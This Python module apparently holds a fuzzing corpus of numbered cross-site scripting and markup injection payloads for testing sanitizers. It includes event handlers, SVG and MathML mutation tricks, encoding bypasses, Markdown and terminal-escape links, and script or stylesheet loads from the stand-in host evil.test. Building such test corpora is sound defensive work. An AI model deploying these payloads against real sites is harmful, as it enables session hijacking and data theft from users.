"""What runs in a browser, or asks another server for something, where it is taken for markup.

``§`` stands for the payload's number: ``told(§)`` tells that it ran, and a request to evil.test
that something was asked for.
"""

from __future__ import annotations

_HTML = (
    # Handlers, of tags that need no help and of such that are used.
    "<script>told(§)</script>",
    "<script src=//evil.test/§.js></script>",
    "<img src=x onerror=told(§)>",
    "<img src=//evil.test/§.png>",
    "<svg onload=told(§)>",
    "<svg><script>told(§)</script></svg>",
    "<svg><animate onbegin=told(§) attributeName=x dur=1s>",
    "<svg><image href=x onerror=told(§)></svg>",
    "<svg><use href=//evil.test/§.svg#a></use></svg>",
    "<svg><a xlink:href=javascript:told(§)><text y=20>press</text></a></svg>",
    "<math><mtext><img src=x onerror=told(§)></mtext></math>",
    "<math><a xlink:href=javascript:told(§)>press</a></math>",
    "<b onmouseover=told(§)>b</b>",
    "<b onclick=told(§)>b</b>",
    "<b style=display:block onpointerover=told(§)>b</b>",
    "<input autofocus onfocus=told(§)>",
    "<details open ontoggle=told(§)>d</details>",
    "<video src=x onerror=told(§)></video>",
    "<audio src=//evil.test/§.ogg autoplay>",
    "<body onload=told(§)>",
    "<style>@import url(//evil.test/§.css);</style>",
    "<link rel=stylesheet href=//evil.test/§.css>",
    "<p style='background:url(//evil.test/§.png)'>p</p>",
    "<iframe srcdoc='<script>parent.told(§)</script>'></iframe>",
    "<iframe src='javascript:parent.told(§)'></iframe>",
    "<iframe src=//evil.test/§></iframe>",
    "<object data=//evil.test/§></object>",
    "<embed src=//evil.test/§>",
    "<meta http-equiv=refresh content='0;url=//evil.test/§'>",
    "<base href=//evil.test/§/><img src=y>",
    "<form action=//evil.test/§><button>press</button></form>",
    "<form><button formaction=javascript:told(§)>press</button></form>",
    "<a href=javascript:told(§)>press</a>",
    "<a href=' java\tscript:told(§)'>press</a>",
    "<a href=&#106;avascript&colon;told(§)>press</a>",
    # Out of what it stands in.
    '" onmouseover="told(§)" x="',
    "' onmouseover='told(§)' x='",
    " onmouseover=told(§) x=",
    '"><img src=x onerror=told(§)>',
    "'><img src=x onerror=told(§)>",
    "--><img src=x onerror=told(§)><!--",
    "</title></textarea></style></noscript><img src=x onerror=told(§)>",
    "</script><script>told(§)</script>",
    '";told(§);"',
    "';told(§);'",
    '\\";told(§)//',
    "\u2028told(§)//",
    "${told(§)}{{told(§)}}{% print(told(§)) %}",
    # What is read differently the second time.
    "&lt;img src=x onerror=told(§)&gt;",
    "&amp;lt;img src=x onerror=told(§)&amp;gt;",
    "&#60;img src=x onerror=told(§)&#62;",
    "\\u003cimg src=x onerror=told(§)\\u003e",
    "%3Cimg src=x onerror=told(§)%3E",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=told(§)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=told(§)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=told(§)>",
    "<noscript><p title='</noscript><img src=x onerror=told(§)>'>",
    "<select><template><style></template><img src=x onerror=told(§)></style></select>",
    "<![CDATA[><img src=x onerror=told(§)>]]>",
    "<?xml ><img src=x onerror=told(§)>?>",
    # Unclosed, long, and with signs that are not seen.
    "<img src=x onerror=told(§) ",
    "<img src=x onerror=told(§)//",
    "<x" + "x" * 5_000 + "><img src=x onerror=told(§)>",
    "<img\x00 src=x onerror=told(§)>",
    "<scr\x00ipt>told(§)</scr\x00ipt>",
    "\u202e<img src=x onerror=told(§)>\u2066",
    "\ufeff<img/src=x/onerror=told(§)>",
    "<ｉmg src=x onerror=told(§)><img src=x onerror=told(§)>",
    # For a reader of Markdown.
    "[press](javascript:told(§)) ![x](//evil.test/§.png) <javascript:told(§)>",
    '[press](<javascript:told(§)> "a") !["onerror=told(§) x="](x)',
    "$\\href{javascript:told(§)}{x}$ $\\text{<img src=x onerror=told(§)>}$",
    '```"><img src=x onerror=told(§)>\n```\n<img src=x onerror=told(§)>',
    # For a terminal, and for a table.
    "\x1b]8;;javascript:told(§)\x07press\x1b]8;;\x07<img src=x onerror=told(§)>",
    '=HYPERLINK("http://evil.test/§")<img src=x onerror=told(§)>',
)

PAYLOADS = tuple(payload.replace("§", str(number)) for number, payload in enumerate(_HTML))
